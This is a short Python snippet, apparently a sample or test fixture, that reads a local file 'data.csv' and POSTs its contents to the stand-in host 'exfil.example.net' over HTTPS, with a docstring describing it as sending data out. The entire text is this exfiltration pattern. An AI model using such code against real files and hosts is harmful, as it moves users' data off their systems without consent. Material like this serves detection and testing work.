"""Sends data out with http.client."""
import http.client

conn = http.client.HTTPSConnection("exfil.example.net")
conn.request("POST", "/c", body=open("data.csv").read())
